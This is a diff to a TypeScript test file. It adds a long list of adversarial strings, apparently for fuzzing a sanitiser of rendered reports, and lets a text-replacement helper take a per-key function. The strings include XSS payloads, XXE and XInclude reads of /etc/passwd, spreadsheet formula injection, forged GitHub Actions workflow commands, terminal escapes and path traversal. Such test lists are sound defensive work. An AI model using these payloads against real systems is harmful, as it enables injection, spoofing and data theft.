@@ -66,6 +66,60 @@ const ATTEMPTS: readonly string[] = [
   '{{ template }} {% raw %}',
   '\u2028line\u2029paragraph',
   '\ufffe\uffff not characters',
+  '＠octocat ﹫octocat and ＃1',
+  '@\u200boctocat @\u00adoctocat',
+  '!1 and acme/shop!2 and acme/shop@7d3e1b0',
+  'https:&#47;&#47;evil.example',
+  'HTTPS://EVIL.EXAMPLE WWW.EVIL.EXAMPLE',
+  'xmpp:a@evil.example/resource',
+  '<https://evil.example> <a@evil.example>',
+  '[a][b]\n\n[b]: https://evil.example',
+  '<!-- open',
+  '<details open><summary>own</summary>',
+  '<a href="javascript:alert(1)">x</a><form action="https://evil.example"><input autofocus onfocus=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg><math><mi xlink:href="javascript:alert(1)">',
+  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
+  '</title><textarea><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '```mermaid\ngraph TD; A-->B; click A "https://evil.example"\n```',
+  '```math\n\\\\href{javascript:alert(1)}{x}\n```',
+  '$`a`$ \\\\( x \\\\)',
+  '```suggestion\nrm\n```',
+  '    indented code',
+  'hard break  \nand \\\\\nmore',
+  '::stop-commands::token',
+  '::endgroup::\n::group::mine',
+  '::save-state name=verdict::pass',
+  '::set-env name=PATH::/evil',
+  '\t::error::after a tab',
+  '##[group]x ##[endgroup] ##[command]x',
+  '%250A::error::twice %0D%0A::error::both',
+  '\u001b]0;title\u0007\u001bP+q\u001b\\\\\u001b_x\u001b\\\\',
+  '\u0090q\u009c\u009d8;;https://evil.example\u009c',
+  '\u001b[6n\u001b[?1049h\u001bc',
+  '\u061c\u200e\u200f\u202a\u202b\u202d marks',
+  '\u3164\u115f\u1160\uffa0 fillers \u2800 blank',
+  '\ufff9a\ufffab\ufffb annotation',
+  '\u0430dmin p\u0430ypal homoglyphs',
+  ']]>]]&gt;<![CDATA[<x/>]]>',
+  '<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;',
+  '<xi:include href="file:///etc/passwd" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
+  '&#0; &#xD800; &#x1F; &undefined; &#99999999;',
+  '=1+1',
+  '=HYPERLINK("https://evil.example","x")',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '{"verdict":"pass"} </script><script>alert(1)</script>',
+  '\\\\u003cscript\\\\u003e \\\\x3c \\\\74',
+  'ghadelimiter_00000000-0000-0000-0000-000000000000\nverdict=pass\nghadelimiter_',
+  'EOF\nverdict=pass\nx<<EOF',
+  '$(params.token) $(context.taskRun.name) $(workspaces.reports.path)',
+  '$$(params.token) $(tasks.x.results.y)',
+  '%2e%2e%2f..%2f ../../etc/passwd ..\\\\..\\\\x',
+  'file:///etc/passwd C:\\\\Windows \\\\\\\\host\\\\share',
+  'a,b;c\td"e\'f',
+  'x'.repeat(100_000),
+  '@a '.repeat(200),
+  '<b>'.repeat(200),
+  '\ud83d'.repeat(60),
   '__proto__',
   'constructor',
   '',
@@ -95,13 +149,16 @@ const TEXT_KEYS: ReadonlySet<string> = new Set(
 )
 const LIST_KEYS: ReadonlySet<string> = new Set(['targets', 'touched', 'untouched', 'warnings', 'outside', 'queries'])
 
-/** The same value with every free text in it replaced; numbers, verdicts and codes stay. */
-export function withText<T>(value: T, text: string): T {
+/** The same value with every free text in it replaced, by one or by its key; numbers, verdicts and codes stay. */
+export function withText<T>(value: T, text: string | ((key: string) => string)): T {
   return replaced(value, '', text) as T
 }
 
-function replaced(value: unknown, key: string, text: string): unknown {
-  if (typeof value === 'string') return TEXT_KEYS.has(key) || LIST_KEYS.has(key) ? text : value
+function replaced(value: unknown, key: string, text: string | ((key: string) => string)): unknown {
+  if (typeof value === 'string') {
+    if (!TEXT_KEYS.has(key) && !LIST_KEYS.has(key)) return value
+    return typeof text === 'string' ? text : text(key)
+  }
   if (Array.isArray(value)) return value.map((item) => replaced(item, key, text))
   if (typeof value !== 'object' || value === null) return value
   const entries = Object.entries(value).map(
